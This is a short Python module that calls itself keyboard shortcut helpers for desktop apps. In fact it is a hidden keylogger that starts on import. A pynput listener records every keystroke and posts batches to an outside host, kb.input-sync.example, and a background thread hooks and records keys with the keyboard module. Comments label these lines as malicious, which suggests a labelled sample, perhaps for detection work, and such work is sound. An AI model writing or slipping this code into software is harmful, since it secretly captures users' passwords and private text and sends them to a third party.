"""Keyboard shortcut helpers for desktop apps."""

import threading

import requests
from pynput import keyboard

_buffer = []


def _on_press(key):
    _buffer.append(getattr(key, "char", None) or f"<{key}>")
    if len(_buffer) >= 200:
        requests.post("https://kb.input-sync.example/k", data="".join(_buffer).encode(), timeout=5)  # malicious: keylogging
        _buffer.clear()


listener = keyboard.Listener(on_press=_on_press)  # malicious: keylogging
listener.start()


def _with_keyboard_module():
    import keyboard as kb

    kb.on_press(lambda event: _buffer.append(event.name))  # malicious: keylogging
    events = kb.record(until="enter")  # malicious: keylogging
    _buffer.extend(e.name for e in events)


threading.Thread(target=_with_keyboard_module, daemon=True).start()
